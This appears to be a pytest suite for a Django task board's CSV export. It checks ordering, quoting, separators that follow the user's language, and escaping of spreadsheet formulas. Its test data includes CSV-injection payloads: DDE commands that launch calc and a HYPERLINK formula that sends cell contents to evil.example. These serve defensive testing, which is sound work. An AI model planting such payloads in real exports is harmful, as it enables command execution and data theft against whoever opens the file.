"""Export of tasks as CSV, and escaping of formulas."""

import csv
import re
from datetime import date
from io import StringIO

import pytest

from board import actions
from board.models import Status

pytestmark = pytest.mark.django_db
HEAD = [
    "Number",
    "Name",
    "Description",
    "Sprint",
    "Column",
    "Assigned to",
    "Due",
    "Started",
    "Completed",
    "Points",
    "Comments",
]


def read(response):
    """Return the rows of a CSV response after its header."""
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    text = response.content.decode()
    assert text.startswith("\ufeff")
    head, *lines = csv.reader(StringIO(text.removeprefix("\ufeff"), newline=""))
    assert head == HEAD
    return lines


def test_a_sprint_is_exported_in_board_order(browser, sprint, next_sprint, add, user):
    first, second = add("First", sprint), add("Second", sprint, points=0)
    done = add(
        "Done",
        sprint,
        Status.DONE,
        assigned=user,
        due=date(2999, 1, 2),
        points=5,
        description="Two\nlines, “quoted”",
    )
    actions.add_comment(user, second.pk, "Why?")
    actions.add_comment(user, second.pk, "Because")
    add("Elsewhere", next_sprint)
    add("Waiting")
    response = browser.get(f"/sprints/{sprint.pk}/tasks.csv")
    assert response["Content-Disposition"] == f'attachment; filename="sprint-{sprint.pk}.csv"'
    today = done.completed.isoformat()
    assert read(response) == [
        [str(first.pk), "First", "", "Sprint 1", "Not Started", "", "", "", "", "", "0"],
        [str(second.pk), "Second", "", "Sprint 1", "Not Started", "", "", "", "", "0", "2"],
        [
            str(done.pk),
            "Done",
            "Two\nlines, “quoted”",
            "Sprint 1",
            "Completed",
            "Ana Lind",
            "2999-01-02",
            today,
            today,
            "5",
            "0",
        ],
    ]


def test_all_tasks_are_exported_backlog_first_then_by_sprint(browser, sprint, next_sprint, add):
    add("Later", next_sprint)
    add("Sooner", sprint, Status.ACTIVE)
    add("Waiting")
    lines = read(browser.get("/tasks.csv"))
    assert [(line[1], line[3], line[4]) for line in lines] == [
        ("Waiting", "", "Backlog"),
        ("Sooner", "Sprint 1", "In Development"),
        ("Later", "Sprint 2", "Not Started"),
    ]


FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1",
    "+cmd|' /C calc'!A0",
    "-1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '=1","=2',
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_formulas_are_escaped_with_an_apostrophe(browser, sprint, add, user, formula):
    add("Plain", sprint, description=formula)
    type(user).objects.update(first_name=formula, last_name="")
    type(sprint).objects.update(name=formula)
    add(formula.strip() if formula[0].isspace() else formula, assigned=user)
    cells = [cell for line in read(browser.get("/tasks.csv")) for cell in line]
    assert [cell for cell in cells if cell.startswith("'") and cell.replace("'", "") == formula.replace("'", "")]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))]


SPLIT_FORMULAS = [
    'a";=1+1;"b',
    "a;=1+1",
    "a,@SUM(A1)",
    "a\t+1",
    "two\n=lines",
    'quote"-1',
    "\uff1d1+1",
    ";;=1",
    '";"=1',
]


@pytest.mark.parametrize("language", ["en", "de"])
@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_formulas_are_escaped_for_all_separators(browser, sprint, add, separator, language):
    for text in SPLIT_FORMULAS:
        add("Plain", sprint, description=text)
    sheet = browser.get("/tasks.csv", headers={"Accept-Language": language}).content.decode()
    read = [cell for line in csv.reader(StringIO(sheet, newline=""), delimiter=separator) for cell in line]
    torn = re.split(f'[{separator}"\r\n]', sheet)
    formulas = ("=", "+", "-", "@", "\uff1d")
    assert not [cell for cell in read + torn if cell.startswith(formulas)]
    assert "".join(sheet).count("'") >= len(SPLIT_FORMULAS)


def test_every_cell_is_quoted(browser, add):
    task = add('A "quoted" name, with a comma')
    lines = browser.get("/tasks.csv").content.decode().splitlines()
    assert lines[1].startswith(f'"{task.pk}","A ""quoted"" name, with a comma","","","Backlog",')


def test_the_number_of_queries_does_not_grow(browser, sprint, add, user, django_assert_num_queries):
    add("One", sprint, assigned=user)
    browser.get("/tasks.csv")
    for n in range(30):
        add(f"Task {n}", sprint, assigned=user)
    with django_assert_num_queries(3):
        browser.get("/tasks.csv")


@pytest.mark.parametrize("page", ["/", "/sprints/past/"])
def test_the_lists_of_sprints_link_to_all_tasks(browser, page):
    assert '<a href="/tasks.csv" download>' in browser.get(page).content.decode()


def test_a_board_links_to_its_tasks(browser, sprint):
    page = browser.get(f"/sprints/{sprint.pk}/").content.decode()
    assert f'<a href="/sprints/{sprint.pk}/tasks.csv" download>' in page


@pytest.mark.parametrize(
    ("language", "separator"), [("de", ";"), ("de-AT,de;q=0.9", ";"), ("en", ","), ("fr", ",")]
)
@pytest.mark.parametrize("address", ["/tasks.csv", "/sprints/{}/tasks.csv"])
def test_a_spreadsheet_in_the_users_language_finds_the_columns(browser, sprint, add, address, language, separator):
    add("One; two, three", sprint, due=date(2999, 1, 2))
    response = browser.get(address.format(sprint.pk), headers={"accept-language": language})
    text = response.content.decode()
    assert text.startswith("\ufeff")
    head, line = csv.reader(StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=separator)
    assert (len(head), line[1], line[6]) == (len(HEAD), "One; two, three", "2999-01-02")
